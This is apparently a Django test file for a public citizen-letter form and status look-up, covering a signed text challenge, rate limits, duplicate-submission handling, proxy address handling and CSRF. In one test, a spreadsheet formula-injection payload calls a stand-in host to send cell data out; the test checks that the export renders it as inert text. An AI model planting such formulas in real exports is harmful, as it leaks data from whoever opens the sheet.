"""Issue 10, findings 14 and 16 (and 8): the public letter form and the status look-up.

The form has a self-hosted challenge (a sum asked in plain text, signed, single use); its
limit per address counts only letters sent; one form gives one letter (a double click, two
parallel POSTs, a reload); the browser is redirected to a receipt page; the address behind a
trusted proxy is the client's. The status look-up is a POST with CSRF, whose answer is the
page itself: the receipt code and the phone's digits never appear in a URL.
"""

from __future__ import annotations

import io
import re
import threading

import pytest
from django.core import signing
from django.core.cache import cache
from django.db import connection
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from dancu.core import throttle
from dancu.letters import challenge, services
from dancu.letters.models import Letter

from .conftest import solved_challenge

pytestmark = pytest.mark.django_db

SUBMIT = "letters_public:submit"


@pytest.fixture(autouse=True)
def _clean_cache():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def form_data(delegation):
    return {
        "receiving_body": delegation.pk,
        "kind": "petition",
        "subject": "Kiến nghị sửa đèn đường thôn Trung",
        "content": "Đèn đường hỏng đã ba tháng",
        "name": "Công Dân Trực Tuyến",
        "address": "Thôn Trung, Hà Tĩnh",
        "phone": "0977 123 456",
    }


def test_the_challenge_is_text_a_person_can_read(client):
    html = client.get(reverse(SUBMIT)).content.decode()
    token = re.search(r'name="token" value="([^"]+)"', html).group(1)
    question = challenge.read(token)
    help_text = re.search(r'id="id_answer_helptext">([^<]+)<', html).group(1)
    assert str(question.a) in help_text and str(question.b) in help_text
    assert re.search(r'<input[^>]+name="answer"[^>]+aria-describedby="id_answer_helptext"', html)
    assert '<label class="form-label" for="id_answer">' in html
    assert "<img" not in html.split('id="public-letter-form"', 1)[1].split("</form>", 1)[0]


def test_no_letter_without_the_right_answer(client, form_data):
    for answer in ("", "abc", "999"):
        solved = solved_challenge(client)
        response = client.post(reverse(SUBMIT), {**form_data, "token": solved["token"], "answer": answer})
        assert response.status_code == 400, answer
        assert 'name="answer"' in response.content.decode()
    forged = signing.dumps({"a": 1, "b": 1, "n": "forged"}, salt="another salt")
    assert client.post(reverse(SUBMIT), {**form_data, "token": forged, "answer": "2"}).status_code == 400
    assert client.post(reverse(SUBMIT), {**form_data, "answer": "2"}).status_code == 400  # no token
    assert Letter.objects.count() == 0


def test_a_wrong_answer_spends_the_challenge(client, form_data):
    solved = solved_challenge(client)
    response = client.post(reverse(SUBMIT), {**form_data, "token": solved["token"], "answer": "0"})
    assert response.status_code == 400
    # The page asks a new question, and keeps what was typed.
    html = response.content.decode()
    assert solved["token"] not in html and form_data["subject"] in html
    # The same token with the right answer is refused now: no guessing on one question.
    assert client.post(reverse(SUBMIT), {**form_data, **solved}).status_code == 400
    assert Letter.objects.count() == 0


def test_an_old_challenge_is_refused(client, form_data, monkeypatch):
    solved = solved_challenge(client)
    monkeypatch.setattr(challenge, "MAX_AGE", -1)
    assert client.post(reverse(SUBMIT), {**form_data, **solved}).status_code == 400
    assert Letter.objects.count() == 0


def test_redirect_after_post_and_a_reload_posts_nothing(client, form_data):
    response = client.post(reverse(SUBMIT), {**form_data, **solved_challenge(client)})
    assert response.status_code == 302 and response["Location"] == reverse("letters_public:receipt")
    letter = Letter.objects.get()
    for _reload in range(3):
        page = client.get(response["Location"])
        assert page.status_code == 200 and letter.receipt_code in page.content.decode()
    assert Letter.objects.count() == 1
    # Another browser has no receipt to see.
    assert letter.receipt_code not in Client().get(response["Location"]).content.decode()


def test_the_same_form_sent_twice_gives_one_letter(client, form_data):
    solved = solved_challenge(client)
    first = client.post(reverse(SUBMIT), {**form_data, **solved})
    second = Client().post(reverse(SUBMIT), {**form_data, **solved})  # e.g. a second tab
    assert first.status_code == second.status_code == 302
    letter = Letter.objects.get()
    assert letter.submission_token == challenge.read(solved["token"]).nonce
    assert letter.receipt_code in client.get(first["Location"]).content.decode()


@pytest.mark.postgres_only
@pytest.mark.django_db(transaction=True)
def test_two_parallel_posts_give_one_letter(delegation):
    """Two requests with the same token at the same moment: the second waits for the first
    one's row (the unique token) and then answers with the same letter."""
    from dancu.letters.defaults import ensure_rule_sets
    from dancu.letters.models import LetterRuleSet

    ensure_rule_sets(LetterRuleSet)
    barrier = threading.Barrier(2)
    results: list[services.Submitted] = []
    errors: list[BaseException] = []

    def send() -> None:
        try:
            barrier.wait()
            results.append(
                services.letter_submit_public(
                    receiving_body_id=delegation.pk,
                    kind="petition",
                    subject="Kiến nghị gửi hai lần",
                    content="Bấm nút gửi hai lần",
                    identity=services.Identity(name="Người Bấm Nhanh", address="Hà Tĩnh", phone="0977000222"),
                    token="one-and-the-same-token",
                )
            )
        except BaseException as exc:  # noqa: BLE001 - reported below
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=send) for _i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    assert Letter.objects.filter(subject="Kiến nghị gửi hai lần").count() == 1
    assert sorted(r.created for r in results) == [False, True]
    assert len({r.letter.pk for r in results}) == 1


def test_the_limit_counts_only_letters_sent(client, form_data):
    for _i in range(8):  # mistakes cost nothing
        assert (
            client.post(reverse(SUBMIT), {**form_data, **solved_challenge(client), "answer": "0"}).status_code
            == 400
        )
    for i in range(5):
        response = client.post(
            reverse(SUBMIT), {**form_data, "subject": f"Thư {i}", **solved_challenge(client)}
        )
        assert response.status_code == 302, i
    response = client.post(reverse(SUBMIT), {**form_data, "subject": "Thư 6", **solved_challenge(client)})
    assert response.status_code == 429 and Letter.objects.count() == 5
    assert form_data["content"] in response.content.decode()  # what was typed is kept


def test_client_address_behind_a_trusted_proxy(rf, settings):
    settings.DANCU_TRUSTED_PROXIES = ["10.0.0.1", "10.0.0.2"]
    request = rf.get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="6.6.6.6, 203.0.113.7, 10.0.0.2")
    assert throttle.client_address(request) == "203.0.113.7"  # the last address not a proxy
    request = rf.get("/", REMOTE_ADDR="198.51.100.9", HTTP_X_FORWARDED_FOR="203.0.113.7")
    assert throttle.client_address(request) == "198.51.100.9"  # not from a proxy: header ignored
    request = rf.get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="not an address")
    assert throttle.client_address(request) == "10.0.0.1"
    request = rf.get("/", REMOTE_ADDR="10.0.0.1")
    assert throttle.client_address(request) == "10.0.0.1"
    del settings.DANCU_TRUSTED_PROXIES  # the setting may be absent: nobody is trusted
    request = rf.get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="203.0.113.7")
    assert throttle.client_address(request) == "10.0.0.1"


def test_citizens_behind_one_proxy_do_not_share_one_limit(client, form_data, settings):
    settings.DANCU_TRUSTED_PROXIES = ["10.0.0.1"]
    proxied = {"REMOTE_ADDR": "10.0.0.1"}
    for i in range(5):
        data = {**form_data, "subject": f"Thư A{i}", **solved_challenge(client)}
        assert (
            client.post(reverse(SUBMIT), data, HTTP_X_FORWARDED_FOR="203.0.113.1", **proxied).status_code
            == 302
        )
    data = {**form_data, "subject": "Thư A6", **solved_challenge(client)}
    assert (
        client.post(reverse(SUBMIT), data, HTTP_X_FORWARDED_FOR="203.0.113.1", **proxied).status_code == 429
    )
    data = {**form_data, "subject": "Thư B", **solved_challenge(client)}
    assert (
        client.post(reverse(SUBMIT), data, HTTP_X_FORWARDED_FOR="203.0.113.2", **proxied).status_code == 302
    )
    # A client cannot pick its address: what it writes left of the proxy's entry is ignored.
    data = {**form_data, "subject": "Thư A7", **solved_challenge(client)}
    spoofed = "198.51.100.50, 203.0.113.1"
    assert client.post(reverse(SUBMIT), data, HTTP_X_FORWARDED_FOR=spoofed, **proxied).status_code == 429


# -- the status look-up (finding 16) ------------------------------------------------------------


@pytest.fixture
def sent(delegation):
    return services.letter_submit_public(
        receiving_body_id=delegation.pk,
        kind="petition",
        subject="Kiến nghị tra cứu",
        content="Nội dung",
        identity=services.Identity(name="Người Tra Cứu", address="Hà Tĩnh", phone="0977 123 456"),
    ).letter


def test_the_look_up_is_a_post_with_csrf(sent):
    url = reverse("letters_public:status")
    browser = Client(enforce_csrf_checks=True)
    # A GET carrying the code looks nothing up (such a URL lands in access logs).
    page = browser.get(url, {"receipt_code": sent.receipt_code, "second_factor": "3456"})
    assert page.status_code == 200 and 'id="public-status"' not in page.content.decode()
    assert 'method="post"' in page.content.decode() and "csrfmiddlewaretoken" in page.content.decode()
    # Without the CSRF token: refused.
    assert browser.post(url, {"receipt_code": sent.receipt_code, "second_factor": "3456"}).status_code == 403
    token = browser.cookies["csrftoken"].value
    response = browser.post(
        url, {"receipt_code": sent.receipt_code, "second_factor": "3456", "csrfmiddlewaretoken": token}
    )
    # The answer is this page, not a redirect whose URL would carry the code.
    assert response.status_code == 200 and 'id="public-status"' in response.content.decode()
    assert not response.has_header("Location")


def test_a_formula_in_a_public_letter_is_text_in_the_export(client, form_data, specialist):
    """Finding 8 (check): a citizen's subject that Excel would run is text in the export."""
    formula = '=HYPERLINK("http://evil.example/?x="&B2,"Bấm xem")'
    response = client.post(reverse(SUBMIT), {**form_data, "subject": formula, **solved_challenge(client)})
    assert response.status_code == 302
    client.force_login(specialist)
    export = client.get(reverse("letters:register_export"))
    sheet = load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == formula]
    assert len(cells) == 1
    assert cells[0].data_type == "s" and cells[0].quotePrefix


def test_a_form_sent_back_asks_its_new_question_in_text(client, form_data):
    solved = solved_challenge(client)
    html = client.post(
        reverse(SUBMIT), {**form_data, "token": solved["token"], "answer": "0"}
    ).content.decode()
    token = re.search(r'name="token" value="([^"]+)"', html).group(1)
    question = challenge.read(token)
    help_text = re.search(r'id="id_answer_helptext">([^<]+)<', html).group(1)
    assert f"{question.a}" in help_text and f"{question.b}" in help_text
